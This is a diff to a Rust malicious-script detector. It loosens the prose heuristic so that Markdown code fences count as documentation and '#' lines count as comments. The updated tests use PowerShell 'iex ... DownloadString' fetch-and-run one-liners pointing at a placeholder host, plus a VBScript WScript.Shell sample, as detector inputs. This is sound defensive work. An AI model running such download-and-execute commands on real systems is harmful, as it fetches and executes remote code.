@@ -307,8 +307,10 @@ pub fn detect(data: &[u8]) -> Option<ScriptHit> {
     None
 }
 
-/// More than half the non-empty lines (of the first 2,000) read like sentences: six or more words,
-/// almost only letters, none of the brackets, operators and sigils code is made of.
+/// Documentation rather than a script: a Markdown code fence, or at least a third of the
+/// non-empty lines (of the first 2,000) reading like sentences — six or more words, almost only
+/// letters, none of the brackets, operators and sigils code is made of. Comment lines never count
+/// as sentences.
 fn mostly_prose(text: &[u8]) -> bool {
     let (mut lines, mut prose) = (0usize, 0usize);
     for line in text.split(|&b| b == b'\n').take(2000) {
@@ -316,9 +318,12 @@ fn mostly_prose(text: &[u8]) -> bool {
         if line.is_empty() {
             continue;
         }
+        if line.starts_with(b"```") || line.starts_with(b"~~~") {
+            return true;
+        }
         lines += 1;
         // Comment lines are code, however wordy: junk comments are how scripts get padded.
-        let comment = [&b"'"[..], b"//", b"/*", b"::", b"<#"]
+        let comment = [&b"'"[..], b"//", b"/*", b"::", b"<#", b"#"]
             .iter()
             .any(|p| line.starts_with(p))
             || line
@@ -346,7 +351,7 @@ fn mostly_prose(text: &[u8]) -> bool {
             prose += 1;
         }
     }
-    lines > 0 && prose * 2 > lines
+    lines > 0 && prose * 3 > lines
 }
 
 fn text_has(text: &[u8], needle: &[u8]) -> bool {
@@ -527,6 +532,9 @@ mod tests {
             "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))\n",
         );
         assert_eq!(kind(&doc), None);
+        // A Markdown file with the one-liner in a code block.
+        let md = "# Build\n\nRun:\n\n```powershell\niex ((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1'))\n```\n";
+        assert_eq!(kind(md), None);
         // Padding a script with wordy comments does not make it prose.
         let mut padded = String::from("Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n");
         for _ in 0..50 {
